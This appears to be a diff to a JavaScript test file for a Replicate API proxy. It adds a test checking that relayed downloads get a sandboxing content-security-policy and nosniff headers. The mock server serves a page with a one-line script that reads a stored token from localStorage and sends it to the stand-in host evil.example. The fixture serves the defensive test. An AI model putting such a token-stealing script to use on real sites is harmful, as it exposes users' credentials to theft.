@@ -41,6 +41,8 @@ beforeAll(async () => {
     if (req.url === '/v1/trainings/redirect') return void res.writeHead(302, { location: `${elsewhere.url}/v1/trainings/redirect` }).end();
     if (req.url === '/delivery/redirect') return void res.writeHead(302, { location: `${elsewhere.url}/x.zip` }).end();
     if (req.url === '/v1/trainings/slow') return; // never answers
+    // Anyone can make a file on Replicate's delivery hosts (a model's output): this one is a web page with a script.
+    if (req.url === '/delivery/page.html') return void res.writeHead(200, { 'content-type': 'text/html' }).end('<script>fetch("//evil.example/?" + localStorage.getItem("finetune.remote.token"))</script>');
     res.writeHead(404).end();
   });
   const p = createReplicateProxy({ upstream: `${hostile.url}/v1`, maxJsonBytes: 1024, timeoutMs: 300, log: (l) => logs.push(l) });
@@ -73,6 +75,18 @@ describe('forwarding', () => {
     const res = await fetch(`${tight.url}/replicate/v1/account`, { headers: auth });
     expect(res.status).toBe(200);
     expect(res.headers.get('set-cookie')).toBeNull();
+  });
+
+  it('never lets a relayed answer run as a page of this origin (where the page keeps the token)', async () => {
+    // A link to the proxy's download route, opened as a page: no Origin, no token; the file is public.
+    const page = await fetch(`${tight.url}/replicate/download?url=${encodeURIComponent(`${hostile.url}/delivery/page.html`)}`);
+    expect(page.status).toBe(200);
+    expect(await page.text()).toContain('<script>');
+    for (const res of [page, await fetch(`${tight.url}/replicate/v1/account`, { headers: auth })]) {
+      expect(res.headers.get('content-security-policy')).toMatch(/(^|;)\s*sandbox\s*(;|$)/);
+      expect(res.headers.get('content-security-policy')).toMatch(/default-src 'none'/);
+      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+    }
   });
 
   it('downloads outputs from the API\'s own origin with the token', async () => {
